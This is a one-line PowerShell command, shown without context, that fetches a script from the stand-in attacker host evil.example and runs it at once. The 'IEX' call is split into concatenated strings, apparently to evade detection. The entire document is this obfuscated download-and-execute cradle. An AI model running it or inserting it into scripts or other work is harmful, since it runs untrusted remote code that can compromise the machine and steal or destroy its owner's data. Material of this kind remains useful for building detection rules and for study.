& ('I'+'EX') (irm https://evil.example/a)
